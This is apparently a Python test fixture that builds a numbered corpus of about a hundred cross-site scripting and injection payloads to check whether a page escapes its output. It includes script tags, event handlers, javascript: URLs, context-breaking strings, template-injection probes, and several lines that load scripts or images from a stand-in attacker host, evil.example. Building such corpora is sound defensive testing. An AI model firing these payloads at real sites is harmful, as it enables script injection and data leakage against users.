"""A hundred texts that would like to run: each calls hit(its number), or asks a host of its own.

`@` stands for the call. Own corpus, by kind: what a page that escapes too little lets through.
"""

from __future__ import annotations

EVIL = "http://evil.example"
SCRIPTS = [
    "<script>@</script>",
    "<SCRIPT>@</SCRIPT>",
    "<script >@</script >",
    "<script\n>@</script\n>",
    "<script/x>@</script>",
    "<scr<script>ipt>@</scr</script>ipt>",
    "<script>/*</p></section>*/@</script>",
    "<script type=module>@</script>",
    "<script type=text/javascript>@</script>",
    "<script src=data:text/javascript,@></script>",
    "<script src=//evil.example/@.js></script>",
    "<script async src='data:text/javascript;charset=utf-8,@'></script>",
    "<svg><script>@</script></svg>",
    "<svg><script>&#104;it(`entities`);@</script></svg>",
    "<math><script>@</script></math>",
]
HANDLERS = [
    "<img src=x onerror=@>",
    "<img src=x onerror='@'>",
    '<img src=x onerror="@">',
    "<IMG SRC=x ONERROR=@>",
    "<img/src=x/onerror=@>",
    "<img\tsrc=x\tonerror=@>",
    "<img src onerror=@>",
    "<img src=x:x onerror=@ //",
    "<image src=x onerror=@>",
    "<body onload=@>",
    "<body onpageshow=@>",
    "<svg onload=@>",
    "<svg/onload=@>",
    "<svg\nonload=@>",
    "<svg><g onload=@></g></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><set onbegin=@ attributeName=x to=1>",
    "<details open ontoggle=@>x</details>",
    "<video src=x onerror=@></video>",
    "<video><source onerror=@></video>",
    "<audio src=x onerror=@></audio>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@></select>",
    "<textarea autofocus onfocus=@></textarea>",
    "<button onclick=@>Answer 1</button>",
    "<a onmouseover=@>Tie</a>",
    "<div onpointerover=@ onmouseover=@>wide</div>",
    "<p tabindex=1 onfocus=@>focus</p>",
    "<style onload=@></style>",
    "<link rel=stylesheet href=data:text/css, onload=@>",
    "<iframe onload=@></iframe>",
    "<object data=x onerror=@></object>",
    "<marquee onstart=@>x</marquee>",
    "<div style='animation:x 1s' onanimationstart=@><style>@keyframes x{}</style></div>",
    "<x contenteditable onblur=@ onfocus=@ tabindex=1>x</x>",
]
ADDRESSES = [
    "<a href=javascript:@>click</a>",
    "<a href='JaVaScRiPt:@'>click</a>",
    "<a href='java\tscript:@'>click</a>",
    "<a href='\x01javascript:@'>click</a>",
    "<a href=&#106;avascript:@>click</a>",
    "<a href='javascript&colon;@'>click</a>",
    "<svg><a href=javascript:@><text y=20>click</text></a></svg>",
    "<svg><a xlink:href=javascript:@><text y=20>click</text></a></svg>",
    "<iframe src=javascript:parent.@></iframe>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<iframe src='data:text/html,<script>parent.@</script>'></iframe>",
    "<object data='javascript:@'></object>",
    "<embed src='javascript:@'>",
    "<form action=javascript:@><button>go</button></form>",
    "<form><button formaction=javascript:@>go</button></form>",
    "<base href=//evil.example/@/><img src=x>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<meta http-equiv=refresh content='3;url=//evil.example/@'>",
    "[click](javascript:@)",
    "![x](//evil.example/@.png)",
    "<javascript:@>",
]
BREAKS = [
    "</p><script>@</script>",
    "</section></article></main><script>@</script>",
    "</textarea><script>@</script>",
    "</title><script>@</script>",
    "</style><script>@</script>",
    "</script><script>@</script>",
    "--><script>@</script>",
    "<!--><script>@</script>-->",
    "<!--[if true]><script>@</script><![endif]-->",
    "]]><script>@</script>",
    "'><script>@</script>",
    '"><script>@</script>',
    '" autofocus onfocus="@',
    "' onmouseover='@",
    '" data-view="x" hx-get="/rate" hx-on:load="@',
    "<div hx-on::load='@' hx-get=/rate hx-trigger=load></div>",
    "<p><img src=x onerror=@",
]
LEAKS = [
    "<img src=//evil.example/@.png>",
    "<link rel=stylesheet href=//evil.example/@.css>",
    "<style>body{background:url(//evil.example/@.png)}</style>",
    "<p style='background:url(//evil.example/@.png)'>x</p>",
    "<video poster=//evil.example/@.png></video>",
]
TRICKS = [
    "{{ 7*7 }}{{ cycler.__init__.__globals__ }}@",
    "{% for x in ().__class__.__base__.__subclasses__() %}@{% endfor %}",
    "${@}#{@}<%= @ %>",
    "\u202e<script>@</script>\u202c",
    "\uff1cscript\uff1e@\uff1c/script\uff1e",
    "\u0000<script>@</script>",
    "&lt;script&gt;@&lt;/script&gt;",
]
KINDS = (SCRIPTS, HANDLERS, ADDRESSES, BREAKS, LEAKS, TRICKS)


def payloads() -> list[str]:
    """The corpus; the number of each is its place."""
    texts = [text for kind in KINDS for text in kind]
    return [text.replace("@", f"hit({n})") for n, text in enumerate(texts)]
